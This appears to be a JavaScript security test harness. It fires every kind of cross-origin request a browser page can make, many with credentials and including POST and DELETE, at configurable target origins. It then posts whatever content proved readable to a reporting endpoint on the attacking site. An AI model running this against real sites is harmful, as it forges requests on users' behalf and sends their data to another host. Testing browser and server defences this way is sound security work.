// Sends from a page everything that a page can send to other origins, and reports what the page gets to see of it.
//
// Parameters of its address: `site`, where reports go; `bases`, the origins to attack; `read` and `act`, the paths to read
// and to post to.
'use strict';

const parameters = new URL(document.currentScript.src).searchParams;
const site = parameters.get('site');
const bases = parameters.get('bases').split(',');
const reads = parameters.get('read').split(',');
const acts = parameters.get('act').split(',');
const PATIENCE = 8000; // for one attempt, in milliseconds
const results = [];

const late = () => new Promise((resolve) => setTimeout(() => resolve('late'), PATIENCE));

// Records what an attempt ends with: `readable …` is the only end that hands content to the page.
function attempt(name, promise) {
    const ended = Promise.resolve(promise).catch((error) => `error: ${error}`);
    return Promise.race([ended, late()]).then((end) => results.push(`${name}: ${end}`));
}

async function seen(response) {
    if (response.type === 'opaque' || response.type === 'opaqueredirect') return response.type;
    return `readable ${response.status} ${await response.text()}`;
}

const get = (url, options) => fetch(url, options).then(seen);
const post = (url, options) => get(url, {method: 'POST', ...options});

function element(tag, attributes) {
    return new Promise((resolve) => {
        const made = document.createElement(tag);
        made.onload = () => resolve(made.contentDocument ? `readable frame ${made.contentDocument.body.textContent}` : 'loaded');
        made.onloadeddata = () => resolve('loaded');
        made.onerror = () => resolve('failed');
        Object.assign(made, attributes);
        document.body.append(made);
    });
}

function form(action, method, enctype) {
    return new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.name = `frame${Math.random()}`;
        document.body.append(frame);
        frame.onload = () => {
            let text = '';
            try { text = frame.contentDocument.body.textContent; } catch { /* of another origin */ }
            resolve(text ? `readable frame ${text}` : 'loaded');
        };
        const made = document.createElement('form');
        const field = document.createElement('input');
        Object.assign(field, {name: 'follow', value: 'true'});
        Object.assign(made, {action, method, enctype, target: frame.name});
        made.append(field);
        document.body.append(made);
        made.submit();
    });
}

function events(url, options) {
    return new Promise((resolve) => {
        const source = new EventSource(url, options);
        source.onopen = () => resolve('readable stream');
        source.onmessage = (event) => resolve(`readable event ${event.data}`);
        source.onerror = () => { source.close(); resolve('failed'); };
    });
}

function socket(url) {
    return new Promise((resolve) => {
        const made = new WebSocket(url.replace(/^http/, 'ws'));
        made.onopen = () => resolve('readable socket');
        made.onerror = () => resolve('failed');
    });
}

function xhr(method, url) {
    return new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        request.onload = () => resolve(`readable ${request.status} ${request.responseText}`);
        request.onerror = () => resolve('failed');
        request.open(method, url);
        request.send();
    });
}

function worker(url) {
    const code = `
        let read = 'failed';
        try { importScripts(${JSON.stringify(url)}); read = 'loaded'; } catch {}
        fetch(${JSON.stringify(url)}).then(async (r) => postMessage('readable ' + await r.text()), () => postMessage(read));`;
    return new Promise((resolve) => {
        const made = new Worker(URL.createObjectURL(new Blob([code])));
        made.onmessage = (event) => resolve(event.data);
        made.onerror = () => resolve('failed');
    });
}

// A service worker of the attacking site fetches what its page fetches, and what it likes.
async function serviceWorker(urls) {
    if (!navigator.serviceWorker) return 'no service workers here';
    const heard = new Promise((resolve) => {
        navigator.serviceWorker.onmessage = (event) => resolve(event.data);
    });
    await navigator.serviceWorker.register('/attack-worker.js');
    const {active} = await navigator.serviceWorker.ready;
    active.postMessage(urls);
    return heard;
}

function speculate(urls) {
    for (const kind of ['prefetch', 'prerender']) {
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        rules.text = JSON.stringify({[kind]: [{urls, eagerness: 'immediate'}]});
        document.head.append(rules);
    }
    for (const rel of ['prefetch', 'preload', 'prerender', 'preconnect']) {
        for (const href of urls) {
            const link = document.createElement('link');
            Object.assign(link, {rel, href, as: 'fetch'});
            document.head.append(link);
        }
    }
}

function ping(url) {
    const link = document.createElement('a');
    Object.assign(link, {href: '#', ping: url});
    document.body.append(link);
    link.click();
    return 'sent';
}

function navigate(url) {
    const opened = window.open(url);
    return new Promise((resolve) => setTimeout(() => {
        let text = '';
        try { text = opened.document.body.textContent; } catch { /* of another origin */ }
        resolve(text ? `readable window ${text}` : 'opened');
    }, PATIENCE / 2));
}

function attemptsOn(base) {
    const all = [];
    const add = (name, promise) => all.push(attempt(`${base} ${name}`, promise));
    for (const path of reads) {
        const url = base + path;
        for (const mode of ['cors', 'no-cors', 'same-origin']) {
            add(`fetch ${mode} ${path}`, get(url, {mode}));
            add(`fetch ${mode} with credentials ${path}`, get(url, {mode, credentials: 'include', cache: 'reload'}));
        }
        add(`events ${path}`, events(url));
        add(`events with credentials ${path}`, events(url, {withCredentials: true}));
        add(`socket ${path}`, socket(url));
        add(`xhr ${path}`, xhr('GET', url));
        add(`worker ${path}`, worker(url));
        add(`image ${path}`, element('img', {src: url}));
        add(`script ${path}`, element('script', {src: url}));
        add(`module ${path}`, element('script', {src: url, type: 'module'}));
        add(`style ${path}`, element('link', {href: url, rel: 'stylesheet'}));
        add(`frame ${path}`, element('iframe', {src: url}));
        add(`object ${path}`, element('object', {data: url, type: 'text/html'}));
        add(`video ${path}`, element('video', {src: url}));
        add(`form GET ${path}`, form(url, 'get', ''));
    }
    for (const path of acts) {
        const url = base + path;
        for (const mode of ['cors', 'no-cors', 'same-origin']) {
            add(`post ${mode} ${path}`, post(url, {mode}));
            add(`post ${mode} keepalive ${path}`, post(url, {mode, keepalive: true, credentials: 'include'}));
        }
        add(`post text ${path}`, post(url, {mode: 'no-cors', body: '{}'}));
        add(`post JSON ${path}`, post(url, {body: '{}', headers: {'Content-Type': 'application/json'}}));
        add(`DELETE ${path}`, get(url, {method: 'DELETE'}));
        add(`xhr POST ${path}`, xhr('POST', url));
        add(`beacon ${path}`, `${navigator.sendBeacon(url)}`);
        add(`beacon text ${path}`, `${navigator.sendBeacon(url, new Blob(['{}'], {type: 'text/plain'}))}`);
        add(`ping ${path}`, ping(url));
        for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
            add(`form POST ${enctype} ${path}`, form(url, 'post', enctype));
        }
        const redirect = `${site}/attack-redirect?to=${encodeURIComponent(url)}`;
        add(`redirected post ${path}`, post(redirect, {mode: 'no-cors'}));
        add(`redirected form ${path}`, form(redirect, 'post', 'text/plain'));
    }
    add('redirected frame', element('iframe', {src: `${site}/attack-redirect?to=${encodeURIComponent(base + reads[0])}`}));
    add('window', navigate(base + reads[0]));
    return all;
}

async function attack() {
    window.onerror = (message) => { results.push(`window error: ${message}`); };
    const urls = bases.flatMap((base) => reads.map((path) => base + path));
    speculate(urls);
    const posts = bases.flatMap((base) => acts.map((path) => base + path));
    const attempts = [attempt('service worker', serviceWorker([urls, posts])), ...bases.flatMap(attemptsOn)];
    await Promise.all(attempts);
    const body = JSON.stringify(results);
    await fetch(`${site}/attack-report`, {method: 'POST', mode: 'no-cors', body});
}

addEventListener('load', attack);
